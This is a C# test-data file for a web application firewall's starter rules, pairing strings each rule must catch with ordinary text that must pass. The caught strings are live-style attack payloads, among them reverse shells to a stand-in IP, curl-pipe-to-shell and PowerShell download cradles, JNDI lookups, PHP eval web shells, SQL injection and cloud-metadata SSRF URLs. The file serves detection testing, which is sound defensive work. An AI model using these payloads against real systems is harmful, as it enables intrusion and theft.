namespace Sakimori.Waf.Tests.SecLang;

/// <summary>
/// What each pattern of the starter rules must catch, and the ordinary text next to it that must pass. Values stand as the rule
/// sees them after its transformations. Rules whose operator is a detector are tested with that detector.
/// </summary>
internal static class StarterRuleCases
{
    /// <summary>One pattern's cases.</summary>
    internal sealed record Case(long Id, string[] Caught, string[] Passed);

    /// <summary>Text that no pattern over fields may match.</summary>
    public static readonly string[] OrdinaryFields =
    [
        "", "1", "O'Brien", "D'Angelo & Sons; est. 1920", "select a drink from the menu, or 1 of the others", "Union Jack; drop in any time --- Tom",
        "山田太郎", "東京都千代田区丸の内１－１－１　（株）山田商店", "ソ表能十（予定）", "よろしくお願いいたします。\r\n山田", "100% OFF!! 50%引き", "a=1&b=2; c=3",
        "https://www.example.co.jp/news/index.html?id=12#top", "http://example.jp/photo.jpg", "user+tag@example.co.jp", "sleep 8 hours, then wait for delay's end",
        "../images/logo.png", "C:\\Users\\yamada\\Documents\\見積.xlsx", "C:\\fakepath\\photo.jpg", "5 < 6 and 7 > 3", "<3 you; (^_^) {笑}", "${name} 様, {{ user }}",
        "function f(x) { return x*2; }", "if (a && b || !c) { d(); }", "price: $5, qty: 3; total=$15", "PowerShell 入門 -第2版-", "the command line; see cmd and bash",
        "system (v2) evaluation: assert yourself", "Java runtime 17, class: economy", "module.class", "order by phone; group by train", "content type: text, location: Tokyo",
        "Subject: 会議\r\nLocation: 本社", "{\"a\":{\"b\":[1,2,3]}}", "data:image/png;base64,iVBORw0KGgo=", "curl up with a book | tea", "nc: North Carolina -e", "root: 0:0",
        "2026-07-24T12:00:00+09:00", "onload: トラック積込, onclick=\"\"", "\"引用\" on monday = 休み", "(a)(b)", "f(x)(y)", "(&) or (|)", "x => y, a ?? b", "version 1.0..2.0", "ファイル.php について",
        "constructor prototype", "proto: tcp", "load file (csv)", "into outfile", "information schema", "from all tables", "meta-data", "jndi とは", "expect: 100",
    ];

    /// <summary>Pages that no response pattern may match.</summary>
    public static readonly string[] OrdinaryPages =
    [
        "<html><head><title>お知らせ</title></head><body><p>在庫: 12</p></body></html>", "<title>Index</title>Index of products", "{\"error\":\"not found\",\"status\":404}",
        "Warning: this product contains nuts in line with the law.", "<p>Notice: closed on line 5 of the metro</p>", "Meet us at Tokyo.Station (Marunouchi.exit:1)",
        "Exception handling in Java: a course", "<p>ORA: 12345</p>", "&lt;?php echo 1; ?&gt;", "Microsoft Visual Studio 80", "<a href=\"/\">Parent Directory</a>",
        "-----BEGIN CERTIFICATE-----", "user root: admin 0:0", "There was an error in your order.", "SQL Server 2019 Standard",
    ];

    public static readonly Case[] All =
    [
        new(9510010, ["TRACE", "TRACK", "CONNECT", "DEBUG"], ["GET", "POST", "PROPFIND"]),
        new(9510011, ["|GET", "G", "GET,", "\tGET"], ["GET", "post", "VERSION-CONTROL", "BASELINE_X"]),
        new(9510020, ["HTTP/0.9", "HTTP/4.0", "HTTP\\1.0", "", "http/1.1"], ["HTTP/1.0", "HTTP/1.1", "HTTP/2", "HTTP/2.0", "HTTP/3"]),
        new(9510040, ["-1", "1,1", "+5", "0x10", ""], ["0", "12345"]),
        new(9510042, ["chunked, chunked", "xchunked", " chunked", "chunked\x0b"], ["chunked", "Chunked", "identity"]),
        new(9510043, ["\"application/x-www-form-urlencoded\"", "application /x-www-form-urlencoded", "text/plain, application/json", "text/plain; a=b, application/json", "form", "%{(#a='multipart/form-data')}"], ["text/html; charset=Shift_JIS", "multipart/form-data; boundary=\"a,b\"", "", "application/vnd.api+json", "multipart/form-data; boundary=----WebKitFormBoundaryAa0"]),
        new(9510071, ["X-Original-URL", "x-rewrite-url"], ["X-Original-Host", "Referer"]),
        new(9510072, ["f", " F "], ["t", "fr"]),
        new(9510073, ["bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7"], ["bytes=0-499", "bytes=0-0,-1"]),
        new(9510074, ["GET", "HEAD"], ["POST", "GETS"]),
        new(9510080, ["/*~1*/.aspx", "/a*~1*/x"], ["/~yamada/index.html", "/file~1.txt"]),
        new(9511011, ["Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)", "Fuzz Faster U Fool v2.1.0"], ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]),
        new(9511020, ["http://c8a2.oast.fun/x", "ab12.interact.sh", "x.burpcollaborator.net"], ["roast.fun", "toast.me", "interact.shop"]),
        new(9520020, ["1 and sleep(5)", "1=sleep(5)", "1 or (select sleep(5))", "'xor(sleep(5))or'", "1;WAITFOR DELAY '0:0:5'", "x' || pg_sleep(5)--", "BENCHMARK(5000000,MD5(1))", "dbms_pipe.receive_message('a',5)"], ["oversleep(5)", "benchmark (results)", "sleep (8h)", "see sleep(3) and nanosleep(2)", "usleep(3) and sleep(3)", "SLEEP(1)"]),
        new(9520021, ["'; exec xp_cmdshell 'dir'--", "union select 1 from information_schema.tables", "x into outfile '/tmp/x'", "load_file(0x2f65)"], ["from all tablespoons", "load_file (see manual)", "xp_points"]),
        new(9520040, ["*)(uid=*", "*)(|(uid=*", "admin)(&(password=x", "x)(cn=*"], ["(注)(価格=100)", "f(a)(b=1)", "*) (see note"]),
        new(9521020, ["\" onmouseover=alert(1) x=\"", "'/onerror=alert(1)", "` onclick =x"], ["\"hello\" on monday", "the onclick= handler", "\"onward=\""]),
        new(9530012, ["../web.config", "img/../app.ini", "..\\db.mdb", "../../a.sql"], ["../images/logo.png", "see ../web.config for details please", "web.config"]),
        new(9530020, ["/.git/config", "/a/.env", "/.env.local", "/WEB-INF/web.xml", "/web.config", "/.htaccess", "/appsettings.Production.json"], ["/.well-known/acme-challenge/x", "/environment", "/gitweb/", "/my-web.configuration"]),
        new(9530021, ["/index.php~", "/login.asp.bak", "/x.aspx::$DATA", "/order.asp.", "/a.jsp\\"], ["/index.php", "/a.php/info", "/report.old", "/order.asp?x=1"]),
        new(9530030, ["shell.php", "order.asp;.jpg", "x.php.jpg", "x.phtml", "a.jsp\x00.png", ".htaccess"], ["photo.jpg", "見積.xlsx", "cert.cer", "report.phpdoc", "wasp.png"]),
        new(9530040, ["http://evil.example/shell.txt?", "https://x.example/a.jpg??"], ["http://example.jp/photo.jpg", "http://example.jp/a.txt?v=1"]),
        new(9530041, ["<?php phpinfo();", "<?php /* x */ @eval($_POST['a']);", "<?php include 'http://evil.example/a.txt';", "<?php\n$f=fopen('a','w');", "<?=`id`", "php://filter/convert.base64-encode/resource=index", "phar://x.jpg", "eval($_POST[x])", "zip://a.zip#b"], ["<?xml version=\"1.0\"?>", "<?php\n// Licence\nnamespace App;\nclass Order {}", "inside <?php ?> tags", "php の入門", "retrieval (base64)", "operating system ($_)"]),
        new(9540020, ["() { :;}; /bin/id", "( ) { x"], ["() => {}", "a () { b }"]),
        new(9540030, ["powershell -nop -w hidden -enc SQBFAFgA", "IEX (New-Object Net.WebClient)", "x.DownloadString('http://a')", "powershell.exe /c whoami "], ["PowerShell 入門", "powershell - a book", "iex index (2026)"]),
        new(9540040, ["& cmd /c dir", "cmd.exe /k \"x\"", "certutil -urlcache -f http://a b", "mshta http://evil/x.hta", "wmic process call create calc"], ["cmd と bash", "certutil の使い方", "press cmd / ctrl"]),
        new(9540050, ["bash -i >& /dev/tcp/10.0.0.1/4444", "nc 10.0.0.1 4444 -e /bin/sh", "; curl http://x/a | sh", "socket.socket(2,1);os.dup2(s,0)"], ["curl up | tea", "/dev/tcp は", "wget の使い方"]),
        new(9541020, ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/x", "http://[fd00:ec2::254]/latest"], ["169.254.169.254", "https://example.com/latest/news"]),
        new(9542020, ["${jndi:ldap://x/a}", "${${lower:j}ndi:x}", "${${::-j}${::-n}di:x}", "${x${env:Y:-j}ndi:}"], ["${name}", "jndi:x", "${a} ${b}"]),
        new(9542030, ["class.classLoader.URLs[0]", "class.module.classLoader.resources", "user[class][classLoader]", "a['class']['module']"], ["class", "subclass.module", "className", "class.name"]),
        new(9542031, ["@java.lang.Runtime@getRuntime()", "#_memberAccess['x']", "redirect:${1+1}", "#context['x']", "getRuntime().exec('id')"], ["yamada@java.example.com", "redirect:/home", "#context", "Java runtime"]),
        new(9542060, ["__proto__", "a[__proto__][x]", "a.constructor.prototype.b", "constructor[prototype]"], ["proto", "__proto", "constructor", "prototype"]),
        new(9560011, ["<title>Runtime Error</title>", "Server Error in '/' Application", "\n   at System.Web.UI.Page.ProcessRequest("], ["<title>Runtime</title>"]),
        new(9560016, ["<?php echo 1;", "<%@ page language=\"java\" %>", "<% Option Explicit"], ["&lt;?php", "<?xml version=\"1.0\"?>", "100<%5"]),
        new(9560017, ["root:x:0:0:root:/root:/bin/bash", "; for 16-bit app support"], ["-----BEGIN PUBLIC KEY-----", "chroot:x:0:0:"]),
    ];
}
